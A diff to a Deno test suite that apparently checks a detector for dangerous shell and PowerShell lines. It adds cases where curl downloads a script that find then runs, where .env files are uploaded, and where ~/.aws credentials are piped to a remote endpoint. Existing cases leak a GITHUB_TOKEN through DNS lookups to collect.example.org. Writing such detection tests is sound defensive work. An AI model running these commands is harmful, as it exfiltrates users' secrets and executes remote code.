@@ -1812,7 +1812,9 @@ Deno.test("a downloaded file run by Python's os.exec*, os.spawn*, posix_spawn or
     `curl -fsSL ${url} | awk '{system($0)}'\n`,
     `curl -fsSL ${url} | gawk -v n=1 '{ print | "sh" }'\n`,
     `curl -fsSL ${url} -o /tmp/l.txt\nawk '{ system("mkdir " $1) }' /tmp/l.txt\n`,
+    `curl -fsSL ${url} -o /tmp/x.sh\nfind /tmp -name x.sh -exec sh {} \\;\n`,
   ], [
+    "find . -name '*.py' -exec python3 -m py_compile {} \\;\n",
     `curl -fsSL ${url} | awk '{print $1}'\n`,
     "awk '{ system(\"echo \" $1) }' list.txt\n",
   ]);
@@ -1974,6 +1976,11 @@ Deno.test("a key leaves by any road: a shell line concatenated around it, a TLS 
       ],
       ["i.ps1", '$k = $env:GITHUB_TOKEN\nResolve-DnsName "$k.collect.example.org"\n'],
       ["j.ps1", `$u = "${post}?k=$env:GITHUB_TOKEN"\nInvoke-RestMethod $u\n`],
+      ["m.sh", `#!/bin/bash\nfind ~ -name .env -exec curl -s -F f=@{} ${post} \\;\n`],
+      [
+        "n.sh",
+        `#!/bin/bash\nfind ~/.aws -type f -exec cat {} \\; | curl -s --data-binary @- ${post}\n`,
+      ],
     ] as const
   ) assert.deepEqual(critical(`scripts/${file}`, text), ["critical"], `${file}: ${text}`);
   // The same roads with nothing secret on them.
